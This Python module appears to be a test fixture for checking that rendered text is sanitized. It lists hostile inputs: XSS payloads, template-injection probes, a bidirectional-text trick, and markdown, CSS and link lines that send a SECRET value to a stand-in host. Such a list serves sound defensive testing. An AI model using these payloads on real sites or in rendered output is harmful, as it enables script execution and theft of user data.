"""What a hostile document, visitor or model would say; the same for every place where words are shown."""

MARKUP = [
    "<img src=x onerror=alert(1)>",
    '![" onerror=alert(1) x="](x)',
    "[click](javascript:alert(1))",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "</script><script>alert(1)</script>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "![x](http://127.0.0.1:9/?q=SECRET)",
    "<base href=http://127.0.0.1:9/>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "\"'><input autofocus onfocus=alert(1)>",
    "</template><template id=source><b>x</b>",
    "</textarea><b>x</b>",
    "&lt;b&gt;&amp;&#60;",
    "\u202egnihtemos <!-- x --> <![CDATA[x]]>",
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A href "javascript:alert(1)"\n```\n'
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://127.0.0.1:9/x}\\)",
    "![x][y] <http://127.0.0.1:9/?q=SECRET> http://127.0.0.1:9/ [y]: http://127.0.0.1:9/?q=SECRET "
    "<link rel=dns-prefetch href=//127.0.0.1:9/><style>@import url(http://127.0.0.1:9/);</style>",
]
